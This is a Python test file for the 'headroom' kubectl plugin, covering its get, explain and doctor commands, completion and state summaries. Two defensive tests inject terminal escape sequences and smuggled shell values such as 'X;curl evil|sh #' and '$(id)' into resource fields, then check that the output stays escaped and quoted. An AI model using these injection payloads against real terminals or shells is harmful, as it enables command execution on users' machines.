"""get, explain and doctor, as a user types them, against an API server over HTTP."""

from __future__ import annotations

import copy
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from free_ports import free_port
from headroom.api.schema.crd import custom_resource_definition
from headroom.api.timestamps import rfc3339
from headroom.cli.app import app
from headroom.cli.plugin import asked
from headroom.console.summary import by_attention, summarize
from support.api_server import ApiServer, serving
from support.service_world import body

SERVICES = "/apis/headroom.dev/v1alpha1/namespaces/vision/inferenceservices"
CONDITIONS = [
    {"type": "Ready", "status": "True", "reason": "Serving", "message": "2 of 3 are warm"},
    {"type": "SLOMet", "status": "False", "reason": "AboveTarget", "message": "p95 is 310ms"},
]
BUSY: dict[str, Any] = body(
    spec__slo={
        "latency": {"percentile": 95, "target": "250ms"},
        "utilizationCeiling": 0.8,
    },
    spec__accelerator={"resource": "nvidia.com/gpu", "count": 2},
    spec__scaling={"mode": "Auto", "minReplicas": 1, "maxReplicas": 20},
    status={
        "replicas": 3,
        "readyReplicas": 2,
        "warmingReplicas": 1,
        "selector": "headroom.dev/inference-service=resnet50",
        "observedGeneration": 3,
        "decision": {
            "replicas": 3,
            "current": 3,
            "reason": "Burst",
            "message": "2 -> 3",
            "time": "2026-11-20T12:00:00Z",
        },
        "signals": {
            "arrivalsPerSecond": 90.0,
            "waiting": 4.0,
            "latency": "310ms",
            "utilization": 1.02,
            "freshness": "Fresh",
        },
        "demand": {"known": "AtLeast", "rate": ">=90/s", "requestsPerSecond": 90.0},
        "conditions": CONDITIONS,
    },
)
NEW: dict[str, Any] = body(metadata__name="bert", metadata__uid="other")
OPERATOR = {
    "metadata": {"name": "headroom-operator", "namespace": "headroom-system"},
    "spec": {
        "replicas": 1,
        "template": {
            "spec": {
                "serviceAccountName": "headroom-operator",
                "containers": [{"name": "operator", "args": ["run"]}],
            }
        },
    },
    "status": {"availableReplicas": 1},
}
POD = {
    "metadata": {"name": "resnet50-abc-1", "namespace": "vision"},
    "spec": {"containers": [{"ports": [{"containerPort": 8080}]}]},
    "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]},
}
PROXIED = "/api/v1/namespaces/vision/pods/resnet50-abc-1:8000/proxy/metrics"
CRD = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/inferenceservices.headroom.dev"


@pytest.fixture
def api() -> Iterator[ApiServer]:
    """A cluster in which all is well."""
    busy = copy.deepcopy(BUSY)
    busy["status"]["decision"]["time"] = rfc3339(time.time())
    server = ApiServer(
        objects={
            "/version": {"major": "1", "minor": "34+"},
            CRD: custom_resource_definition(),
            SERVICES: {"items": [busy, NEW]},
            f"{SERVICES}/resnet50": busy,
            "/apis/headroom.dev/v1alpha1/inferenceservices": {"items": [busy, NEW]},
            "/apis/apps/v1/deployments": {"items": [OPERATOR]},
            "/apis/apps/v1/namespaces/vision/deployments/resnet50": {"metadata": {"name": "a"}},
            "/apis/autoscaling/v2/namespaces/vision/horizontalpodautoscalers": {"items": []},
            "/apis/networking.k8s.io/v1/namespaces/vision/networkpolicies": {"items": []},
            "/apis/policy/v1/namespaces/vision/poddisruptionbudgets": {"items": []},
            "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases": {"items": []},
            "/apis/coordination.k8s.io/v1/namespaces/headroom-system/leases": {"items": []},
            "/api/v1/nodes": {"items": [{"status": {"allocatable": {"nvidia.com/gpu": "8"}}}]},
            "/api/v1/namespaces/vision/pods": {"items": [POD]},
        },
        pages={PROXIED: (200, "headroom_requests_waiting 0\n")},
    )
    with serving(server):
        yield server


@pytest.fixture
def kubeconfig(api: ApiServer, tmp_path: Path) -> str:
    return api.kubeconfig(tmp_path / "kubeconfig")


def headroom(kubeconfig: str, *arguments: str) -> Result:
    return CliRunner().invoke(app, [*arguments, "--kubeconfig", kubeconfig])


def test_get_lists_services_of_the_context_namespace(kubeconfig: str) -> None:
    result = headroom(kubeconfig, "get")
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert [line.split() for line in lines] == [
        [
            *("NAME", "STATE", "LATENCY", "TARGET", "DEMAND", "WAITING", "UTILIZATION"),
            *("READY", "DESIRED", "ACCELERATORS", "REASON"),
        ],
        ["bert", "Pending", "-", "250ms", *("-" * 3), "0/0", "-", "0", "-"],
        [
            *("resnet50", "AboveTarget", "310ms", "250ms", ">=90/s", "4", "102%"),
            *("2/3,", "1", "warming", "3", "6", "Burst"),
        ],
    ]
    assert lines[0].index("REASON") == lines[2].index("Burst"), "words to the left"


def test_get_wide_of_all_namespaces_shows_namespace_and_why(kubeconfig: str) -> None:
    result = headroom(kubeconfig, "get", "-A", "-o", "wide")
    assert result.stdout.splitlines()[0].split()[0] == "NAMESPACE"
    assert result.stdout.splitlines()[2].startswith("vision")
    assert "AboveTarget: p95 is 310ms" in result.stdout


@pytest.mark.parametrize(
    ("limits", "accelerators"), [({}, "0"), ({"nvidia.com/gpu": 4}, "12"), (None, "-")]
)
def test_get_of_target_ref_counts_accelerators_of_its_pod_template(
    api: ApiServer, kubeconfig: str, limits: dict[str, int] | None, accelerators: str
) -> None:
    scaled = copy.deepcopy(BUSY)
    target = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "mine"}
    scaled["spec"] = {"targetRef": target, "slo": {"latency": {"target": "250ms"}}}
    api.objects[SERVICES] = {"items": [scaled]}
    if limits is not None:
        containers = [{"name": "server", "resources": {"limits": limits}}]
        deployment = {"spec": {"template": {"spec": {"containers": containers}}}}
        api.objects["/apis/apps/v1/namespaces/vision/deployments/mine"] = deployment
    row = headroom(kubeconfig, "get").stdout.splitlines()[1].split()
    assert row[-2:] == [accelerators, "Burst"]


def test_get_as_json_has_null_for_unknown(kubeconfig: str) -> None:
    bert, resnet = json.loads(headroom(kubeconfig, "get", "-o", "json").stdout)["services"]
    assert (resnet["state"], resnet["arrivalsRps"], resnet["accelerators"]) == (
        "AboveTarget",
        90.0,
        6,
    )
    assert (bert["state"], bert["arrivalsRps"], bert["latency"]) == ("Pending", None, None)
    assert resnet["conditions"][1]["reason"] == "AboveTarget"
    assert (resnet["demand"]["known"], bert["demand"], bert["slo"]) == ("AtLeast", None, None)


def test_get_without_services_says_so(api: ApiServer, kubeconfig: str) -> None:
    api.objects[SERVICES] = {"items": []}
    result = headroom(kubeconfig, "get")
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == "No InferenceServices found in namespace vision.\n"


def test_explain_reads_the_context_namespace(kubeconfig: str) -> None:
    result = headroom(kubeconfig, "explain", "resnet50")
    assert result.exit_code == 0
    assert "vision/resnet50: 3 replicas (2 ready, 1 warming)" in result.stdout


def test_explain_in_a_pipe_does_not_cut_lines_at_80_columns(kubeconfig: str) -> None:
    lines = headroom(kubeconfig, "explain", "resnet50").stdout.splitlines()
    assert any("arrivals/s" in line and "utilization" in line for line in lines)


def test_explain_as_json_has_decision_and_why(kubeconfig: str) -> None:
    said = json.loads(headroom(kubeconfig, "explain", "resnet50", "-o", "json").stdout)
    assert said["decision"]["reason"] == "Burst"
    assert said["coldStart"] is None
    assert said["why"] == "AboveTarget: p95 is 310ms"


def test_explain_of_missing_service_points_to_get(kubeconfig: str) -> None:
    result = headroom(kubeconfig, "explain", "nobody")
    assert result.exit_code == 1
    assert result.stderr.endswith("see `headroom get --all-namespaces`\n")


@pytest.mark.parametrize("command", [["get"], ["explain", "a"], ["doctor"]])
def test_command_without_cluster_says_what_to_do(tmp_path: Path, command: list[str]) -> None:
    result = headroom(str(tmp_path / "absent"), *command)
    assert result.exit_code == 1
    assert result.stderr.startswith("error: no credentials for a cluster")
    assert "set KUBECONFIG" in result.stderr


@pytest.mark.parametrize("command", [["get"], ["explain", "a"], ["doctor"]])
def test_command_without_an_api_server_says_what_to_do(tmp_path: Path, command: list[str]) -> None:
    unreachable = ApiServer(url=f"http://127.0.0.1:{free_port()}")
    result = headroom(unreachable.kubeconfig(tmp_path / "kubeconfig"), *command)
    assert result.exit_code == 1
    assert "check that the API server can be reached, or choose another" in result.stderr


def test_get_without_the_resource_says_to_install_it(api: ApiServer, kubeconfig: str) -> None:
    del api.objects[SERVICES]
    result = headroom(kubeconfig, "get")
    assert result.exit_code == 1
    assert "install Headroom's CustomResourceDefinition" in result.stderr


@pytest.mark.parametrize("command", ["get", "doctor"])
def test_unknown_output_format_exits_with_2(kubeconfig: str, command: str) -> None:
    assert headroom(kubeconfig, command, "-o", "yml").exit_code == 2


@pytest.mark.parametrize(
    "command",
    [["get", "-o", "wide"], ["explain", "resnet50"], ["doctor"], ["explain", "\x1b[2Jnobody"]],
)
def test_text_of_a_tenant_does_not_control_the_terminal(
    api: ApiServer, kubeconfig: str, command: list[str]
) -> None:
    """A pod's last words are in the message of a condition."""
    forged = "bert   Healthy\u202e"
    for one in (api.objects[f"{SERVICES}/resnet50"], api.objects[SERVICES]["items"][0]):
        for said in (one["status"]["decision"], *one["status"]["conditions"]):
            said["message"] = f"\x1b]0;owned\x07\x1b[1A\x9b2K\n{forged}"
        one["status"]["decision"]["reason"] = "\x1b[31mBurst\n"
    result = headroom(kubeconfig, *command)
    shown = result.stdout + result.stderr
    assert not {"\x1b", "\x07", "\x9b", "\u202e"}.intersection(shown)
    assert r"\x1b" in shown
    assert not any(line.startswith("bert   Healthy") for line in shown.splitlines())


def test_remedy_to_copy_runs_nothing_else(api: ApiServer, kubeconfig: str) -> None:
    owner = {"kind": "X;curl evil|sh #", "name": "$(id)", "uid": "u", "controller": True}
    target = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "resnet50"}
    metadata = {"name": "cpu", "namespace": "vision", "ownerReferences": [owner]}
    scaler = {"metadata": metadata, "spec": {"scaleTargetRef": target}}
    path = "/apis/autoscaling/v2/namespaces/vision/horizontalpodautoscalers"
    api.objects[path] = {"items": [scaler]}
    status = api.objects[SERVICES]["items"][0]["status"]
    status["selector"] = "a in (b, c);curl evil"
    broken = {"type": "CapacityAvailable", "status": "False", "reason": "ReplicasBroken"}
    status["conditions"].append(broken | {"message": "1 of 3"})
    said = headroom(kubeconfig, "doctor").stdout
    assert "kubectl delete 'x;curl evil|sh #/$(id)' --namespace vision" in said
    assert "--selector 'a in (b, c);curl evil'" in said


@pytest.mark.parametrize("command", [["get", "-o", "wide"], ["explain", "resnet50"], ["doctor"]])
@pytest.mark.parametrize(
    "spec",
    [
        *(None, [], {}, {"slo": 5}, {"slo": {"latency": 5}}, {"slo": {"latency": {}}}),
        *({"targetRef": "x"}, {"targetRef": {"kind": "Deployment"}}, {"prefillRef": [1]}),
        *({name: 5} for name in ("scaling", "runtime", "routing", "telemetry", "accelerator")),
    ],
    ids=str,
)
def test_spec_that_no_schema_admits_is_shown_and_found(
    api: ApiServer, kubeconfig: str, command: list[str], spec: Any
) -> None:
    """An earlier schema may have admitted it."""
    one = api.objects[f"{SERVICES}/resnet50"]
    one["spec"] = spec
    api.objects[SERVICES] = {"items": [one, NEW]}
    result = headroom(kubeconfig, *command)
    assert result.exit_code == (command == ["doctor"]), result.exception
    assert "resnet50" in result.stdout
    assert command != ["doctor"] or "InvalidSpec vision/resnet50" in result.stdout


def test_service_without_a_spec_is_shown_and_found(api: ApiServer, kubeconfig: str) -> None:
    one = api.objects[SERVICES]["items"][0]
    del one["spec"]
    assert "resnet50" in headroom(kubeconfig, "get").stdout
    said = headroom(kubeconfig, "doctor").stdout
    assert "InvalidSpec vision/resnet50" in said
    assert "2 services examined" in said


@pytest.mark.parametrize("metadata", [{}, {"metadata": None}, {"metadata": 5}], ids=str)
def test_service_without_metadata_hides_no_other(
    api: ApiServer, kubeconfig: str, metadata: dict[str, Any]
) -> None:
    api.objects[SERVICES] = {"items": [{"spec": {}} | metadata, NEW]}
    shown = headroom(kubeconfig, "get")
    assert "bert" in shown.stdout, shown.exception
    assert "InvalidSpec -/-" in headroom(kubeconfig, "doctor").stdout


@pytest.mark.parametrize("spec", [{}, {"spec": None}, {"spec": {"template": {}}}], ids=str)
def test_deployment_without_pods_is_no_operator(
    api: ApiServer, kubeconfig: str, spec: dict[str, Any]
) -> None:
    other = {"metadata": {"name": "other", "namespace": "headroom-system"}} | spec
    api.objects["/apis/apps/v1/deployments"] = {"items": [other, OPERATOR]}
    api.objects[SERVICES] = {"items": [NEW]}
    result = headroom(kubeconfig, "doctor")
    assert result.exit_code == 0, result.exception or result.stdout


def test_doctor_in_healthy_cluster_exits_with_0(api: ApiServer, kubeconfig: str) -> None:
    api.objects[SERVICES] = {"items": [NEW]}
    result = headroom(kubeconfig, "doctor")
    assert result.stdout == "1 service examined in namespace vision (-A: all), nothing to do\n"
    assert result.exit_code == 0


def test_doctor_finds_a_missed_slo(kubeconfig: str) -> None:
    result = headroom(kubeconfig, "doctor")
    assert "AboveTarget vision/resnet50\n    why:    SLOMet is False: p95 is 310ms" in result.stdout
    assert result.exit_code == 1


def test_doctor_finds_missing_parts_and_exits_with_1(api: ApiServer, kubeconfig: str) -> None:
    refused = {"kind": "Status", "reason": "ServiceUnavailable", "message": "connection refused"}
    api.pages[PROXIED] = (503, json.dumps(refused))
    api.lacking.add(("patch", "deployments/scale"))
    api.objects["/api/v1/nodes"] = {"items": []}
    result = headroom(kubeconfig, "doctor", "-o", "json")
    said = json.loads(result.stdout)
    assert result.exit_code == 1
    assert [one["finding"] for one in said["findings"]] == [
        "PermissionMissing",
        "NoAccelerators",
        "NoAccelerators",  # bert claims none: one by default
        "WrongPort",
        "AboveTarget",
    ]
    assert said["findings"][0]["subject"].endswith(":headroom-operator")
    assert "its containers declare 8080" in said["findings"][3]["why"]


def test_doctor_notes_kinds_it_may_not_read(api: ApiServer, kubeconfig: str) -> None:
    del api.objects["/api/v1/nodes"]
    api.pages["/api/v1/nodes"] = (403, json.dumps({"message": "nodes is forbidden"}))
    result = headroom(kubeconfig, "doctor")
    assert "NotChecked Node" in result.stdout
    assert "nodes is forbidden" in result.stdout
    assert "NoAccelerators" not in result.stdout


def answered(script: str, *arguments: str) -> list[str]:
    program = f"from headroom.cli.plugin import {script}; {script}()"
    ended = subprocess.run(
        [sys.executable, "-c", program, *arguments],
        capture_output=True,
        text=True,
        check=False,
    )
    return (ended.stdout + ended.stderr).splitlines()


def completed(*given: str, **environment: str) -> list[str]:
    env = {**asked(given), **environment}
    return CliRunner().invoke(app, [], prog_name="headroom", env=env).stdout.splitlines()


def test_completion_offers_commands_options_and_names(kubeconfig: str) -> None:
    assert completed("exp") == ["explain"]
    assert completed("get", "--output", "") == ["text", "wide", "json"]
    assert completed("explain", "re", KUBECONFIG=kubeconfig) == ["resnet50"]
    assert completed("explain", "", KUBECONFIG="/absent") == [""]


def test_kubectl_completion_offers_no_files() -> None:
    assert answered("complete", "exp") == ["explain", ":4"]


def test_plugin_usage_names_kubectl_headroom() -> None:
    assert answered("main", "get", "--nope")[0] == "Usage: kubectl headroom get [OPTIONS]"


STATES: list[tuple[list[tuple[str, str, str]], str]] = [
    ([], "Pending"),
    ([("Ready", "False", "InvalidSpec"), ("SLOMet", "True", "WithinTarget")], "Blocked"),
    ([("AbleToScale", "False", "ScaleFailed")], "Blocked"),
    ([("ScalingActive", "Unknown", "EvaluationFailed")], "Blocked"),
    ([("Ready", "False", "WarmingUp"), ("SLOMet", "Unknown", "NoReadyReplicas")], "WarmingUp"),
    ([("Ready", "False", "NoReadyReplicas")], "Down"),
    ([("Ready", "True", "Serving"), ("SLOMet", "False", "AboveTarget")], "AboveTarget"),
    ([("CapacityAvailable", "False", "ReplicasUnschedulable")], "NoCapacity"),
    ([("CapacityAvailable", "False", "ReplicasBroken")], "Broken"),
    ([("MetricsAvailable", "False", "MetricsStale")], "NoMetrics"),
    ([("MetricsAvailable", "Unknown", "CollectingMetrics")], "Pending"),
    ([("SLOFeasible", "False", "SLOInfeasible"), ("SLOMet", "True", "W")], "SLOInfeasible"),
    ([("SLOMet", "Unknown", "NoTraffic")], "NoTraffic"),
    ([("Ready", "True", "Serving"), ("SLOMet", "True", "WithinTarget")], "Healthy"),
]


@pytest.mark.parametrize(("conditions", "state"), STATES)
def test_state_is_the_worst_of_the_conditions(
    conditions: list[tuple[str, str, str]], state: str
) -> None:
    service = copy.deepcopy(BUSY)
    service["status"]["conditions"] = [
        {"type": kind, "status": status, "reason": reason} for kind, status, reason in conditions
    ]
    assert summarize(service).state == state


def test_services_that_serve_nothing_are_listed_before_those_that_cannot_scale() -> None:
    blocked, down = ([[kind, "False", why]] for kind, why in (("AbleToScale", "S"), ("Ready", "N")))
    rows = {"a": (blocked, 2), "b": (blocked, 0), "c": (down, 0), "d": ([], 1)}
    found = [
        summarize(
            {
                "metadata": {"name": name},
                "status": {
                    "readyReplicas": ready,
                    "conditions": [
                        {"type": kind, "status": status, "reason": reason}
                        for kind, status, reason in conditions
                    ],
                },
            }
        )
        for name, (conditions, ready) in rows.items()
    ]
    assert [row.name for row in by_attention(found)] == ["c", "b", "a", "d"]


@pytest.mark.parametrize("broken", [{}, {"spec": None}, {"status": {"conditions": "none"}}])
def test_summary_of_malformed_object_is_pending(broken: dict[str, Any]) -> None:
    assert summarize({"metadata": {"name": "a"}} | broken).state == "Pending"
